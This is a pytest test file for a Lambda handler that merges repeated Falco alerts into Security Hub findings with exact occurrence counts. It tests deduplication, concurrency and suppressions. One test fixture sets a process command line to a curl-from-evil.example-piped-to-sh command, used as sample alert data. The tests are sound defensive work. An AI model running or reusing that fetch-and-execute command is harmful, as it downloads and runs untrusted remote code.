"""Alert storms (issue 12, docs/storms.md): repeats of one behaviour across invocations are one
finding per window whose ``falco/occurrences`` is exact, whatever is re-delivered."""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Iterator
from typing import Any

import boto3
import pytest
from aws_fakes import (
    REGION,
    FakeLambdaContext,
    encode_payload,
    falco_alert,
    moto_security_hub,
    stored_findings,
    subscription_payload,
)

from handlers import heartbeat, ingest, occurrences
from handlers.alerts import AlertRecord
from handlers.names import BEHAVIOR_ID_PREFIX, occurrences_table_name

CLUSTER = "shop-prod-use1"
TABLE = occurrences_table_name(CLUSTER)
HOUR_NS = 3600 * 1_000_000_000


def create_table(client: Any) -> None:
    client.create_table(
        TableName=TABLE,
        BillingMode="PAY_PER_REQUEST",
        KeySchema=[{"AttributeName": occurrences.ID, "KeyType": "HASH"}],
        AttributeDefinitions=[{"AttributeName": occurrences.ID, "AttributeType": "S"}],
    )


@pytest.fixture
def aws(monkeypatch: pytest.MonkeyPatch) -> Iterator[Any]:
    monkeypatch.setenv("CLUSTER_NAME", CLUSTER)
    monkeypatch.setenv("OCCURRENCES_TABLE", TABLE)
    monkeypatch.setattr(time, "sleep", lambda seconds: None)
    with moto_security_hub(REGION):
        ingest.securityhub_client.cache_clear()
        heartbeat.dynamodb_client.cache_clear()
        heartbeat.directory_for.cache_clear()
        occurrences._store.cache_clear()
        client = boto3.client("dynamodb", region_name=REGION)
        create_table(client)
        yield client
    occurrences._store.cache_clear()


def alert_at(second: int, *, pod: str = "checkout-7d9f8b6c5d-x7k2p", **kwargs: Any) -> dict:
    """The same shell in the same Deployment, ``second`` seconds into 03:00 UTC."""
    minute, sec = divmod(second, 60)
    alert = falco_alert(second, pod=pod, time=f"2026-03-14T03:{minute:02d}:{sec:02d}.000000000Z")
    alert.update(kwargs)
    return alert


def message(alert: dict[str, Any]) -> str:
    return json.dumps({"log": json.dumps(alert), "cluster_name": CLUSTER})


def event_of(alerts: list[dict[str, Any]], first_id: int) -> dict[str, Any]:
    ids = [f"{first_id + i:056d}" for i in range(len(alerts))]
    return encode_payload(subscription_payload([message(a) for a in alerts], ids=ids))


def falco_findings() -> list[dict[str, Any]]:
    return [f for f in stored_findings(REGION) if f["Id"].startswith(BEHAVIOR_ID_PREFIX)]


def record(alert: dict[str, Any], event_id: str = "1") -> AlertRecord:
    return AlertRecord(alert, event_id, 0, CLUSTER, None, None, None)


# -- identity ---------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("pod", "workload"),
    [
        ("checkout-7d9f8b6c5d-x7k2p", "checkout"),  # Deployment
        ("web-proxy-5c7b9f6d48-bq2zr", "web-proxy"),
        ("fluent-bit-4sxlz", "fluent-bit"),  # DaemonSet
        ("postgres-0", "postgres"),  # StatefulSet
        ("kafka-broker-12", "kafka-broker"),
        ("backup-29012345-gq7kd", "backup"),  # CronJob
        ("migrate-db-hv8xt", "migrate-db"),  # Job
        ("web-proxy", "web-proxy"),  # a bare pod: "proxy" is not a generated suffix
        ("debug", "debug"),
    ],
)
def test_pod_names_lose_only_generated_suffixes(pod: str, workload: str) -> None:
    assert occurrences.pod_workload(pod) == workload


def test_replicas_of_one_deployment_are_one_behaviour() -> None:
    a = occurrences.behavior_of(record(alert_at(1, pod="checkout-7d9f8b6c5d-x7k2p")), None)
    b = occurrences.behavior_of(record(alert_at(2, pod="checkout-7d9f8b6c5d-q9z4m")), None)
    assert a == b
    assert a.digest == b.digest
    assert a.workload == "pod/checkout"


def test_the_owner_falco_reports_wins_over_the_pod_name() -> None:
    alert = alert_at(1, pod="odd-name")
    alert["output_fields"]["k8smeta.deployment.name"] = "checkout"
    assert occurrences.behavior_of(record(alert), None).workload == "deployment/checkout"


@pytest.mark.parametrize(
    "change",
    [
        {"proc.cmdline": "bash -c 'curl evil.example | sh'"},  # another command line
        {"k8s.ns.name": "payments"},
        {"k8s.pod.name": "cart-6b8d9c7f5b-x7k2p"},  # another workload
        {"container.image.tag": "1.15.0"},
    ],
)
def test_distinct_behaviour_stays_apart(change: dict[str, str]) -> None:
    base = alert_at(1)
    other = alert_at(1)
    other["output_fields"].update(change)
    assert occurrences.behavior_of(record(base), None) != occurrences.behavior_of(
        record(other), None
    )


def test_another_rule_or_cluster_is_another_behaviour() -> None:
    base = occurrences.behavior_of(record(alert_at(1)), None)
    assert occurrences.behavior_of(record(alert_at(1, rule="Other rule")), None) != base
    elsewhere = AlertRecord(alert_at(1), "1", 0, "other-cluster", None, None, None)
    assert occurrences.behavior_of(elsewhere, None) != base


# -- counting through the handler -----------------------------------------------------------
def test_a_storm_over_many_invocations_is_one_finding_with_the_exact_count(aws: Any) -> None:
    context = FakeLambdaContext()
    sent = 0
    for delivery in range(6):
        batch = [alert_at(delivery * 100 + i) for i in range(1 + delivery)]
        ingest.handler(event_of(batch, first_id=delivery * 1000), context)
        sent += len(batch)
    (finding,) = falco_findings()
    assert finding["ProductFields"]["falco/occurrences"] == str(sent) == "21"
    assert finding["FirstObservedAt"] == "2026-03-14T03:00:00.000000000Z"
    assert finding["LastObservedAt"] == "2026-03-14T03:08:25.000000000Z"
    container = finding["Resources"][0]
    assert container["Details"]["Other"]["Workload"] == "pod/checkout"


def test_re_delivery_never_counts_twice(aws: Any) -> None:
    context = FakeLambdaContext()
    first = event_of([alert_at(i) for i in range(5)], first_id=0)
    second = event_of([alert_at(10 + i) for i in range(3)], first_id=100)
    for event in (first, second, first, second, first):  # Lambda retries, redrive
        ingest.handler(event, context)
    (finding,) = falco_findings()
    assert finding["ProductFields"]["falco/occurrences"] == "8"


def test_each_import_carries_the_current_count_and_a_later_updated_at(aws: Any) -> None:
    context = FakeLambdaContext()
    seen = []
    for delivery in range(3):
        ingest.handler(event_of([alert_at(delivery * 10)], first_id=delivery * 10), context)
        (finding,) = falco_findings()
        seen.append((finding["UpdatedAt"], finding["ProductFields"]["falco/occurrences"]))
    assert [count for _, count in seen] == ["1", "2", "3"]
    assert [at for at, _ in seen] == sorted(at for at, _ in seen)


def test_a_new_window_is_a_new_finding(aws: Any) -> None:
    context = FakeLambdaContext()
    late = falco_alert(1, pod="checkout-7d9f8b6c5d-x7k2p", time="2026-03-14T04:00:01.000000000Z")
    ingest.handler(event_of([alert_at(5), alert_at(3599 % 600), late], first_id=0), context)
    ingest.handler(
        event_of(
            [
                falco_alert(
                    2, pod="checkout-7d9f8b6c5d-x7k2p", time="2026-03-14T04:30:00.000000000Z"
                )
            ],
            first_id=10,
        ),
        context,
    )
    findings = sorted(falco_findings(), key=lambda f: f["FirstObservedAt"])
    assert [f["ProductFields"]["falco/occurrences"] for f in findings] == ["2", "2"]
    assert findings[0]["Id"] != findings[1]["Id"]
    assert findings[1]["FirstObservedAt"].startswith("2026-03-14T04:00:01")


def test_out_of_order_alerts_move_first_observed_back(aws: Any) -> None:
    context = FakeLambdaContext()
    ingest.handler(event_of([alert_at(300)], first_id=0), context)
    ingest.handler(event_of([alert_at(100)], first_id=10), context)
    (finding,) = falco_findings()
    assert finding["FirstObservedAt"] == "2026-03-14T03:01:40.000000000Z"
    assert finding["LastObservedAt"] == "2026-03-14T03:05:00.000000000Z"
    assert finding["ProductFields"]["falco/occurrences"] == "2"


# -- concurrency ------------------------------------------------------------------------------
def storm_of(seconds: range, first_id: int) -> occurrences.Storm:
    records = [record(alert_at(s), f"{first_id + s:056d}") for s in seconds]
    (storm,) = occurrences.storms(records, CLUSTER, 3600)
    return storm


def test_two_invocations_interleaved_on_one_key_both_count(aws: Any) -> None:
    """A counts, B counts, then each reads: both read the total (no lost update)."""
    store_a = occurrences.OccurrenceStore(aws, TABLE)
    store_b = occurrences.OccurrenceStore(boto3.client("dynamodb", region_name=REGION), TABLE)
    a, b = storm_of(range(0, 7), 0), storm_of(range(100, 104), 1000)
    assert store_a._count_once(a, a.log_event_ids) == 7
    assert store_b._count_once(b, b.log_event_ids) == 4
    assert store_a._count_once(a, a.log_event_ids) == 0  # A's retry
    assert store_a.count(a).occurrences == store_b.count(b).occurrences == 11


def test_a_retry_that_batches_the_events_differently_counts_only_the_new_ones(aws: Any) -> None:
    """A first attempt got through half the events; the retry carries all of them."""
    context = FakeLambdaContext()
    storm = [alert_at(i) for i in range(120)]
    ingest.handler(event_of(storm[:50], first_id=0), context)
    ingest.handler(event_of(storm, first_id=0), context)  # the same log event ids, re-batched
    ingest.handler(event_of(storm[100:], first_id=100), context)
    (finding,) = falco_findings()
    assert finding["ProductFields"]["falco/occurrences"] == "120"


@pytest.fixture
def atomic_moto(monkeypatch: pytest.MonkeyPatch) -> None:
    """DynamoDB applies each request atomically; moto does not guard its read-modify-write
    against threads, so each request is made atomic here (as the server is). Requests of
    different threads still interleave freely, which is what the code under test must survive."""
    from moto.dynamodb.models import DynamoDBBackend

    lock = threading.RLock()  # a transaction calls update_item and put_item itself
    for name in ("transact_write_items", "update_item", "put_item"):
        original = getattr(DynamoDBBackend, name)

        def atomic(self: Any, *args: Any, _original: Any = original, **kwargs: Any) -> Any:
            with lock:
                return _original(self, *args, **kwargs)

        monkeypatch.setattr(DynamoDBBackend, name, atomic)


def test_concurrent_invocations_on_one_key_count_exactly(aws: Any, atomic_moto: None) -> None:
    """Threads against one DynamoDB (moto): 8 invocations of 25 alerts, each delivered twice."""
    storms = [storm_of(range(n * 25, n * 25 + 25), n * 100) for n in range(8)]
    errors: list[BaseException] = []

    def invoke(storm: occurrences.Storm) -> None:
        try:
            store = occurrences.OccurrenceStore(boto3.client("dynamodb", region_name=REGION), TABLE)
            store.count(storm)
        except BaseException as exc:  # reported below
            errors.append(exc)

    threads = [threading.Thread(target=invoke, args=(s,)) for s in storms + storms]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert not errors
    final = occurrences.OccurrenceStore(aws, TABLE).count(storms[0])
    assert final.occurrences == 200
    assert not final.counted


def test_a_conflicting_transaction_is_retried(aws: Any) -> None:
    from botocore.exceptions import ClientError

    store = occurrences.OccurrenceStore(aws, TABLE, sleep=lambda s: None)
    real = aws.transact_write_items
    calls = []

    def conflict_once(**kwargs: Any) -> Any:
        calls.append(1)
        if len(calls) == 1:
            raise ClientError(
                {
                    "Error": {"Code": "TransactionCanceledException", "Message": "conflict"},
                    "CancellationReasons": [{"Code": "None"}, {"Code": "TransactionConflict"}],
                },
                "TransactWriteItems",
            )
        return real(**kwargs)

    store.client = type(
        "C",
        (),
        {"transact_write_items": staticmethod(conflict_once), "update_item": aws.update_item},
    )()
    assert store.count(storm_of(range(3), 0)).occurrences == 3
    assert len(calls) == 2


def test_state_failures_fail_the_invocation_without_importing(
    aws: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OCCURRENCES_TABLE", "missing-table")
    occurrences._store.cache_clear()
    with pytest.raises(occurrences.StateUnavailable):
        ingest.handler(event_of([alert_at(1)], first_id=0), FakeLambdaContext())
    assert falco_findings() == []


def test_without_the_table_setting_the_handler_coalesces_per_invocation(
    aws: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("OCCURRENCES_TABLE")
    ingest.handler(event_of([alert_at(1), alert_at(2)], first_id=0), FakeLambdaContext())
    assert falco_findings() == []
    # Without cross-invocation state: one finding per distinct alert (pid and container differ).
    assert len(stored_findings(REGION)) == 2


def test_a_bad_window_is_a_configuration_error() -> None:
    with pytest.raises(ValueError, match="OCCURRENCE_WINDOW_SECONDS"):
        occurrences.store_from_environment(
            {"OCCURRENCES_TABLE": "t", "OCCURRENCE_WINDOW_SECONDS": "1h"}, REGION
        )


def test_one_counter_update_per_behaviour_per_invocation_not_per_alert(aws: Any) -> None:
    shell = [alert_at(i) for i in range(40)]
    other = [alert_at(i, pod="cart-6b8d9c7f5b-x7k2p") for i in range(10)]
    ingest.handler(event_of(shell + other, first_id=0), FakeLambdaContext())
    store = occurrences.store_from_environment({"OCCURRENCES_TABLE": TABLE}, REGION)
    assert store is not None
    assert store.calls == 4  # per behaviour: one transaction and one update, for 50 alerts
    assert sorted(f["ProductFields"]["falco/occurrences"] for f in falco_findings()) == ["10", "40"]


def matches(criteria: dict[str, list[dict[str, str]]], finding: dict[str, Any]) -> bool:
    """Security Hub's reading of automation rule criteria: every field must match (a filter on
    a field with several values matches any of them, as Security Hub ORs them)."""

    def compare(comparison: str, actual: str | None, wanted: str) -> bool:
        if actual is None:
            return False
        return {
            "EQUALS": actual == wanted,
            "PREFIX": actual.startswith(wanted),
            "CONTAINS": wanted in actual,
        }[comparison]

    resources = finding["Resources"]
    values = {
        "product_names": lambda f: [finding["ProductName"]],
        "generator_ids": lambda f: [finding["GeneratorId"]],
        "resource_ids": lambda f: [r["Id"] for r in resources],
        "resource_application_names": lambda f: [r.get("ApplicationName") for r in resources],
        "resource_details_others": lambda f: [
            r.get("Details", {}).get("Other", {}).get(f["key"]) for r in resources
        ],
    }
    return all(
        any(compare(f["comparison"], v, f["value"]) for f in filters for v in values[field](f))
        for field, filters in criteria.items()
    )


def test_suppressions_match_the_findings_the_handler_makes(aws: Any) -> None:
    from components.suppressions import criteria, parse_suppressions

    ci_pod = "gitlab-runner-5c7b9f6d48-bq2zr"
    alert = alert_at(1, pod=ci_pod)
    alert["output_fields"].update(
        {
            "k8s.ns.name": "ci",
            "container.image.repository": "registry.example.com/ci-runner",
            "proc.cmdline": "sh -c gitlab-runner-helper build",
        }
    )
    elsewhere = alert_at(2)  # the same rule in another namespace, image and process
    ingest.handler(event_of([alert, elsewhere], first_id=0), FakeLambdaContext())
    by_namespace = {f["Resources"][0]["Details"]["Other"]["Namespace"]: f for f in falco_findings()}
    (suppression,), problems = parse_suppressions(
        """
- name: ci
  rule: Terminal shell in container
  namespace: ci
  image: "registry.example.com/ci-runner*"
  process: "*gitlab-runner-helper*"
  reason: CI jobs
  expires: 2099-01-01
""",
        __import__("datetime").date(2026, 1, 1),
    )
    assert problems == []
    assert matches(criteria(suppression), by_namespace["ci"])
    assert not matches(criteria(suppression), by_namespace["shop"])
